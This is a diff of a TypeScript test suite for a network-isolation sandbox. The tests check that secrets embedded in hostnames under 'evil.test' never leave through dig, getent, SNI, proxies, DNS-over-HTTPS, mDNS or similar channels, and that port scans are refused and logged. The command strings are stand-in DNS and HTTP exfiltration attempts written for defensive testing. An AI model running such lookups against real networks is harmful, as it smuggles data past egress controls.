@@ -8,39 +8,43 @@ const SECRET = 'c0ffee-secret'
 const hello = (name: string) =>
   `openssl s_client -connect ${name}:443 -servername ${name} </dev/null; openssl s_client -proxy 127.0.0.1:1023 -connect ${name}:443 </dev/null`
 
-forEachKind('P7 a refused name is in no query, however it is spoken of', async (world, project) => {
-  const heard = world.listen()
-  const name = (n: number) => `${SECRET}${n}.evil.test`
-  const { steps } = await runSteps(
-    project,
-    {
-      allowed: 'curl -sS http://allowed.test/',
-      getent: `getent hosts ${name(1)}; getent ahostsv6 ${name(2)}`,
-      dig: `dig +time=1 +tries=1 ${name(3)}; dig +tcp +time=1 +tries=1 ${name(4)}`,
-      digTypes: `for t in AAAA TXT MX NULL ANY PTR SRV HTTPS; do dig +time=1 +tries=1 +short $t ${name(5)}; done`,
-      digOut: `dig +time=1 +tries=1 @${EVIL} ${name(6)}; dig +time=1 +tries=1 @192.0.2.2 ${name(7)}`,
-      digOutTcp: `dig +tcp +time=1 +tries=1 @192.0.2.2 ${name(8)}; dig -6 +time=1 +tries=1 @2600:beef::10 ${name(9)}`,
-      digStub: `dig +time=1 +tries=1 @127.0.0.53 ${name(10)}`,
-      host: `curl -sS -H 'Host: ${name(11)}' http://allowed.test/; curl -sS http://${name(12)}/`,
-      tls: hello(name(13)),
-      sni: `openssl s_client -connect allowed.test:443 -servername ${name(14)} </dev/null`,
-      proxy: `curl -sS -x $PEN_PROXY http://${name(15)}/; curl -sS -x $PEN_PROXY https://${name(16)}/`,
-      dot: `timeout 3 openssl s_client -connect 192.0.2.2:853 </dev/null`,
-      doh: `curl -sS -m3 'https://192.0.2.2/dns-query?name=${name(17)}'; curl -sS -m3 --doh-url https://evil.test/dns-query https://${name(18)}/`,
-      mdns: `dig +time=1 +tries=1 -p 5353 @224.0.0.251 ${name(19)}; dig +time=1 +tries=1 -p 5355 @224.0.0.252 ${name(20)}`,
-    },
-    { allow: ['allowed.test:80', 'allowed.test:443'] },
-  )
-  expect(steps.allowed.said).toBe(`hello from ${UP} 80\n`)
-  expect(steps.dig.said).toContain(`${name(3)}. 60\tIN\tA\t198.18.`)
-  expect(steps.digTypes.said).toBe('')
-  // The stub is told apart from the servers that were meant by this: it has an answer for every name.
-  for (const step of ['dig', 'digOut', 'digStub'] as const) expect(steps[step].said).toContain('198.18.')
-  for (const { ms } of Object.values(steps)) expect(ms).toBeLessThan(1000)
-  expect(new Set(heard.names)).toEqual(new Set(['allowed.test']))
-  expect(heard.left).toEqual([`tcp ${UP} 80`])
-  expect(world.read('outside').filter(line => line.includes(SECRET))).toEqual([])
-})
+forEachKind(
+  'P7 a refused name is in no query, however it is spoken of',
+  async (world, project) => {
+    const heard = world.listen()
+    const name = (n: number) => `${SECRET}${n}.evil.test`
+    const { steps } = await runSteps(
+      project,
+      {
+        allowed: 'curl -sS http://allowed.test/',
+        getent: `getent hosts ${name(1)}; getent ahostsv6 ${name(2)}`,
+        dig: `dig +time=1 +tries=1 ${name(3)}; dig +tcp +time=1 +tries=1 ${name(4)}`,
+        digTypes: `for t in AAAA TXT MX NULL ANY PTR SRV HTTPS; do dig +time=1 +tries=1 +short $t ${name(5)}; done`,
+        digOut: `dig +time=1 +tries=1 @${EVIL} ${name(6)}; dig +time=1 +tries=1 @192.0.2.2 ${name(7)}`,
+        digOutTcp: `dig +tcp +time=1 +tries=1 @192.0.2.2 ${name(8)}; dig -6 +time=1 +tries=1 @2600:beef::10 ${name(9)}`,
+        digStub: `dig +time=1 +tries=1 @127.0.0.53 ${name(10)}`,
+        host: `curl -sS -H 'Host: ${name(11)}' http://allowed.test/; curl -sS http://${name(12)}/`,
+        tls: hello(name(13)),
+        sni: `openssl s_client -connect allowed.test:443 -servername ${name(14)} </dev/null`,
+        proxy: `curl -sS -x $PEN_PROXY http://${name(15)}/; curl -sS -x $PEN_PROXY https://${name(16)}/`,
+        dot: `timeout 3 openssl s_client -connect 192.0.2.2:853 </dev/null`,
+        doh: `curl -sS -m3 'https://192.0.2.2/dns-query?name=${name(17)}'; curl -sS -m3 --doh-url https://evil.test/dns-query https://${name(18)}/`,
+        mdns: `dig +time=1 +tries=1 -p 5353 @224.0.0.251 ${name(19)}; dig +time=1 +tries=1 -p 5355 @224.0.0.252 ${name(20)}`,
+      },
+      { allow: ['allowed.test:80', 'allowed.test:443'] },
+    )
+    expect(steps.allowed.said).toBe(`hello from ${UP} 80\n`)
+    expect(steps.dig.said).toContain(`${name(3)}. 60\tIN\tA\t198.18.`)
+    expect(steps.digTypes.said).toBe('')
+    // The stub is told apart from the servers that were meant by this: it has an answer for every name.
+    for (const step of ['dig', 'digOut', 'digStub'] as const) expect(steps[step].said).toContain('198.18.')
+    for (const { ms } of Object.values(steps)) expect(ms).toBeLessThan(1000)
+    expect(new Set(heard.names)).toEqual(new Set(['allowed.test']))
+    expect(heard.left).toEqual([`tcp ${UP} 80`])
+    expect(world.read('outside').filter(line => line.includes(SECRET))).toEqual([])
+  },
+  { containers: true },
+)
 
 forEachKind(
   'P7 no datagram, ping or raw packet leaves, and the program hears so at once',
@@ -119,9 +123,13 @@ attempt('vsock', lambda: socket.socket(40, 1).connect((2, 22)))
         label,
         expect.stringMatching(/^E(PROTONOSUPPORT|PERM|AFNOSUPPORT)$/),
       ])
-    expect(steps.hping.said.match(/Operation not permitted/g)?.length).toBe(3)
+    // hping, nft and nmap are not in the image of a container; what they would use is tried by the others.
+    const hostTools = !project.isContainer
+    if (hostTools) expect(steps.hping.said.match(/Operation not permitted/g)?.length).toBe(3)
     expect(steps.ping.code).not.toBe(0)
-    expect(steps.namespace.said.match(/Operation not permitted|not supported/g)?.length).toBe(4)
+    expect(steps.namespace.said.match(/Operation not permitted|not supported/g)?.length).toBe(
+      hostTools ? 4 : 3,
+    )
     for (const { ms } of Object.values(steps)) expect(ms).toBeLessThan(5000)
 
     expect(heard.left).toEqual([])
@@ -129,7 +137,7 @@ attempt('vsock', lambda: socket.socket(40, 1).connect((2, 22)))
     const records = audit.map(({ kind, name, address, port }) => `${kind} ${name ?? address} ${port}`)
     // A scan of ports is one record for each.
     expect(records.filter(line => line.startsWith('connection-denied')).sort()).toEqual(
-      [22, 443, 5432, 80, 8080].map(port => `connection-denied ${EVIL} ${port}`),
+      (hostTools ? [22, 443, 5432, 80, 8080] : []).map(port => `connection-denied ${EVIL} ${port}`),
     )
     expect(records.filter(line => line.startsWith('flow-refused')).sort()).toEqual([
       `flow-refused ${EVIL} 443`,
@@ -139,4 +147,5 @@ attempt('vsock', lambda: socket.socket(40, 1).connect((2, 22)))
       'flow-refused evil.test 123',
     ])
   },
+  { containers: true },
 )
